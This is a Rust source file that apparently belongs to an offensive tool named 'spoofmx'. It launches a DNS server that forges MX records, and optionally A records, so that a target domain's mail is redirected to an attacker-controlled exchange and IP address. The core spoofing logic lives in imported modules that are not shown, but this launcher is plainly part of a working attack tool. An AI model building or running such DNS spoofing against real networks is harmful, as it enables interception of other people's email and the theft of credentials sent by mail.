use spoofmx_domain::{Config, SpoofPolicy};
use spoofmx_infrastructure::dns::{bind_udp_socket, SpoofResponder};
use std::net::SocketAddr;
use std::sync::Arc;
use tracing::{error, info, warn};

/// Binds the configured address and serves until Ctrl-C.
pub async fn start_dns_server(config: &Config) -> anyhow::Result<()> {
    let socket_addr: SocketAddr = config.listen_addr().parse()?;

    let socket = bind_udp_socket(socket_addr).map_err(|e| {
        error!(error = %e, "Cannot open DNS socket");
        e
    })?;

    let policy = Arc::new(SpoofPolicy::new(&config.spoof));
    info!(bind_address = %socket_addr, "DNS spoofer listening");
    info!(
        domain = %policy.forged_domain(),
        exchange = %policy.attacker_mx(),
        address = %policy.attacker_ip(),
        forge_a = config.spoof.forge_a,
        "Forging MX records"
    );
    info!("Press Ctrl+C to stop");

    let responder = SpoofResponder::new(policy);
    responder.serve(socket, shutdown_signal()).await;

    info!("Shutting down DNS spoofer");
    Ok(())
}

async fn shutdown_signal() {
    if let Err(e) = tokio::signal::ctrl_c().await {
        warn!(error = %e, "Cannot listen for Ctrl+C; serving until killed");
        std::future::pending::<()>().await;
    }
}
